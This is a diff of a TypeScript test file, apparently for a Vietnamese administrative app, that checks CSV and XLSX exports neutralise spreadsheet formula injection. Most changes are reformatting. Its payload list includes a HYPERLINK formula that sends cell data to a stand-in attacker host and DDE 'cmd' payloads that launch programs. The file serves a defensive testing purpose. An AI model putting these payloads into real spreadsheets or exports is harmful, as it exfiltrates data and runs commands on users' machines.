@@ -16,9 +16,9 @@ const h = useHarness('2026-11-05T09:00:00+07:00');
 const PAYLOADS = [
   '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
   "=cmd|'/c calc'!A0",
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   ' =1+1',
@@ -27,7 +27,8 @@ const PAYLOADS = [
 ];
 
 /** A cell a spreadsheet would run as a formula. */
-const runsAsFormula = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell);
+const runsAsFormula = (cell: string) =>
+  /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell);
 
 afterEach(async () => {
   await resetAssignments(h);
@@ -41,7 +42,13 @@ describe('CSV exports neutralise formulas', () => {
       const month = String(i + 1).padStart(2, '0');
       const res = await h.raw('POST', '/api/assignments', {
         token,
-        body: { userId: observer2, cellId: 'hn-xom-1', decisionNo, validFrom: `2024-${month}-01`, validTo: `2024-${month}-20` },
+        body: {
+          userId: observer2,
+          cellId: 'hn-xom-1',
+          decisionNo,
+          validFrom: `2024-${month}-01`,
+          validTo: `2024-${month}-20`,
+        },
       });
       expect(res.status, JSON.stringify(res.body)).toBe(201);
     }
@@ -50,10 +57,16 @@ describe('CSV exports neutralise formulas', () => {
     const table = parseCsv(file.bytes.toString('utf8').replace(/^\uFEFF/, ''));
     // What the API stored (it trims), each exported with a leading apostrophe.
     const stored = (await h.raw('GET', '/api/assignments', { token })).body.items
-      .filter((a: { username: string; cellId: string }) => a.username === 'observer2' && a.cellId === 'hn-xom-1')
+      .filter(
+        (a: { username: string; cellId: string }) =>
+          a.username === 'observer2' && a.cellId === 'hn-xom-1',
+      )
       .map((a: { decisionNo: string }) => a.decisionNo);
     expect(stored).toHaveLength(PAYLOADS.length);
-    const decisions = table.slice(1).filter((r) => r[0] === 'observer2' && r[2] === 'hn-xom-1').map((r) => r[4]);
+    const decisions = table
+      .slice(1)
+      .filter((r) => r[0] === 'observer2' && r[2] === 'hn-xom-1')
+      .map((r) => r[4]);
     expect(decisions.sort()).toEqual(stored.map((d: string) => `'${d}`).sort());
     for (const cell of table.flat()) expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false);
   });
@@ -62,8 +75,15 @@ describe('CSV exports neutralise formulas', () => {
     await buildNovember(h);
     try {
       await rows(h, sql`update org_units set name = ${PAYLOADS[0]} where id = 'hn-xom-1'`);
-      await rows(h, sql`update users set display_name = ${PAYLOADS[4]} where username = 'observer'`);
-      const res = await download(h, '/api/synthesis/export?month=2026-11&format=csv', await tokenFor(h.database, 'commune'));
+      await rows(
+        h,
+        sql`update users set display_name = ${PAYLOADS[4]} where username = 'observer'`,
+      );
+      const res = await download(
+        h,
+        '/api/synthesis/export?month=2026-11&format=csv',
+        await tokenFor(h.database, 'commune'),
+      );
       expect(res.status).toBe(200);
       const text = res.bytes.toString('utf8');
       const table = parseCsv(text.replace(/^\uFEFF/, ''));
@@ -76,7 +96,10 @@ describe('CSV exports neutralise formulas', () => {
       expect(filed?.[1]).toMatch(/^\d+$/);
     } finally {
       await rows(h, sql`update org_units set name = 'Chi bộ xóm 1' where id = 'hn-xom-1'`);
-      await rows(h, sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`);
+      await rows(
+        h,
+        sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`,
+      );
     }
   });
 });
@@ -86,8 +109,15 @@ describe('XLSX exports neutralise formulas', () => {
     await buildNovember(h);
     try {
       await rows(h, sql`update org_units set name = ${PAYLOADS[1]} where id = 'hn-xom-1'`);
-      await rows(h, sql`update users set display_name = ${PAYLOADS[3]} where username = 'observer'`);
-      const res = await download(h, '/api/synthesis/export?month=2026-11&format=xlsx', await tokenFor(h.database, 'commune'));
+      await rows(
+        h,
+        sql`update users set display_name = ${PAYLOADS[3]} where username = 'observer'`,
+      );
+      const res = await download(
+        h,
+        '/api/synthesis/export?month=2026-11&format=xlsx',
+        await tokenFor(h.database, 'commune'),
+      );
       expect(res.status).toBe(200);
       const wb = new ExcelJS.Workbook();
       await wb.xlsx.load(res.bytes as unknown as ArrayBuffer);
@@ -109,7 +139,10 @@ describe('XLSX exports neutralise formulas', () => {
       expect(wb.getWorksheet('Tổng hợp')!.getCell('B4').value).toEqual(expect.any(Number));
     } finally {
       await rows(h, sql`update org_units set name = 'Chi bộ xóm 1' where id = 'hn-xom-1'`);
-      await rows(h, sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`);
+      await rows(
+        h,
+        sql`update users set display_name = 'Nguyễn Văn An' where username = 'observer'`,
+      );
     }
   });
 });
